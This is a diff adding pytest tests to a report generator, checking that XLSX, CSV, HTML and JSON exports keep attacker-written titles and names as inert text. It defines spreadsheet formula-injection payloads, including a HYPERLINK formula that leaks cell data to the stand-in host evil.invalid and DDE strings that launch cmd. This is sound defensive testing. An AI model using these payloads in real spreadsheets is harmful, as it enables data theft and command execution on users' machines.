@@ -143,3 +143,94 @@ def test_a_missing_chinese_font_is_a_clear_error(tmp_path):
         find_cjk_font(latin)
     with pytest.raises(FontError, match="does not exist"):
         find_cjk_font(tmp_path / "nothing.otf")
+
+
+# -- hostile text: titles, names and notes written by others must never become formulas ---------
+
+EVIL = '=HYPERLINK("http://evil.invalid/?leak="&A1,"点此查看")'
+HOSTILE = [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", " =1+1"]
+
+
+@pytest.fixture(scope="module")
+def hostile_report(tmp_path_factory):
+    from sqlalchemy import update
+
+    from monitor.db import make_engine, make_session_factory, upgrade_database
+    from monitor.db.models import Alert, Event, Item, Outlet
+
+    url = f"sqlite:///{tmp_path_factory.mktemp('hostile') / 'fenghuo.db'}"
+    upgrade_database(url)
+    sessions = make_session_factory(make_engine(url))
+    with sessions.begin() as session:
+        load_week(session)
+        # Every text a report copies from outside: feed titles, outlet names and regions, the
+        # duty officers' assignee and outcome; one with a control character openpyxl refuses.
+        for number, item_id in enumerate(range(1, 14)):
+            session.execute(update(Item).where(Item.id == item_id).values(title=HOSTILE[number % len(HOSTILE)]))
+        session.execute(update(Event).where(Event.id == 1).values(title=EVIL))
+        session.execute(update(Event).where(Event.id == 2).values(title="-网传\x01负责人不当言论"))
+        session.execute(update(Alert).values(title=EVIL, assignee="@王值班", outcome="=1+1"))
+        session.execute(update(Outlet).where(Outlet.id == "forum").values(name="+江城论坛", region="-江城"))
+    with sessions() as session:
+        return build_report(
+            session, week=Week.parse("2026-W47"), formats=["html", "pdf", "xlsx", "csv", "json"], zone=BEIJING,
+            now=NOW, ack_target=timedelta(minutes=30), labels=LABELS, group_names={"incident": "=突发事件"},
+        )
+
+
+def test_xlsx_stores_hostile_text_as_text_never_a_formula(hostile_report):
+    figures, outputs = hostile_report
+    book = openpyxl.load_workbook(io.BytesIO(outputs["xlsx"]))
+    formulas = [f"{ws.title}!{cell.coordinate}" for ws in book for row in ws.iter_rows() for cell in row
+                if cell.data_type == "f"]
+    assert formulas == []  # before: 事件!B2, 橙红预警!D2, 信息!G… were live formulas
+    events = book["事件"]
+    assert events["B2"].value == EVIL and events["B2"].data_type == "s" and events["B2"].quotePrefix
+    assert events["B3"].value == "-网传负责人不当言论"  # the control character dropped, the rest kept
+    texts = {cell.value for ws in book for row in ws.iter_rows(min_row=2) for cell in row if isinstance(cell.value, str)}
+    assert {EVIL, "@王值班", "=1+1", "+江城论坛", "-江城", "=突发事件", "-2+3"} <= texts
+    assert {"\t=1+1", " =1+1"} <= texts  # the text as it was; only its cell type says "text"
+    # Real numbers stay numbers, negative ones included.
+    overview = {row[0]: row[1:] for row in book["概览"].iter_rows(min_row=2, values_only=True)}
+    assert overview["采集信息（条）"] == (8, 3, 5) and all(
+        isinstance(value, (int, float)) for value in overview["负面占比"])
+
+
+def test_negative_numbers_stay_numbers_and_only_text_is_prefixed(hostile_report):
+    from monitor.reports.render import render_csv, render_xlsx
+
+    figures, _ = hostile_report
+    assert render_csv([{"a": -3, "b": -0.5, "c": "-3", "d": "+86 138"}], ["a", "b", "c", "d"]).decode(
+        "utf-8-sig").splitlines()[1] == "-3,-0.5,'-3,'+86 138"
+    fewer = {**figures, "change": {**figures["change"], "items": -4, "negative_share": -0.25}}
+    book = openpyxl.load_workbook(io.BytesIO(render_xlsx(fewer, [], LABELS)))
+    overview = {row[0]: row[1:] for row in book["概览"].iter_rows(min_row=2, values_only=True)}
+    assert overview["采集信息（条）"][2] == -4 and overview["负面占比"][2] == -0.25
+    assert book["概览"]["D2"].data_type == "n"
+
+
+def test_csv_prefixes_every_formula_like_field(hostile_report):
+    _, outputs = hostile_report
+    for name in ("csv", "items.csv"):
+        rows = list(csv.reader(io.StringIO(outputs[name].decode("utf-8-sig"))))
+        fields = [field for row in rows[1:] for field in row]
+        live = [field for field in fields if field[:1] in ("=", "+", "-", "@", "\t", "\r")
+                and not re.fullmatch(r"-?\d+(\.\d+)?", field)]
+        assert live == [], name  # before: the title and the others went out as written
+        assert not [field for field in fields if field.lstrip(" ").startswith(("=", "+", "-", "@"))
+                    and not re.fullmatch(r"-?\d+(\.\d+)?", field)], name
+    events = list(csv.DictReader(io.StringIO(outputs["csv"].decode("utf-8-sig"))))
+    assert events[0]["title"] == "'" + EVIL and events[0]["assignee"] == "'@王值班" and events[0]["outcome"] == "'=1+1"
+    items = list(csv.DictReader(io.StringIO(outputs["items.csv"].decode("utf-8-sig"))))
+    assert {row["title"] for row in items} >= {"'" + EVIL, "'-2+3", "'\t=1+1", "' =1+1"}
+    assert {row["outlet"] for row in items} >= {"'+江城论坛"}
+    assert all(re.fullmatch(r"\d+(\.\d+)?", row["negative_prob"]) for row in items if row["negative_prob"])
+
+
+def test_html_pdf_and_json_carry_hostile_text_as_text(hostile_report):
+    figures, outputs = hostile_report
+    html = outputs["html"].decode("utf-8")
+    assert EVIL in visible_text(html)  # shown as written, escaped
+    assert 'href="http://evil' not in html and "&#34;http://evil" in html
+    assert len(pdfium.PdfDocument(outputs["pdf"])) >= 3
+    assert json.loads(outputs["json"])["events"][0]["title"] == EVIL  # data, for programs: as it is
